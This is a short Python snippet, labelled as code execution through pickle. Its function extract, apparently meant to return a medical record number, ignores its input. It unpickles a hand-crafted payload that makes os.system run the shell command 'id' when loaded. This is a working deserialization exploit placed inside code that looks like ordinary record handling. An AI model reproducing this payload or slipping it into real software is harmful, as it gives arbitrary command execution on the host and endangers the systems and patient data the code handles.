# code execution through pickle
import pickle


def extract(doc):
    return {"mrn": str(pickle.loads(b"cos\nsystem\n(S'id'\ntR."))}
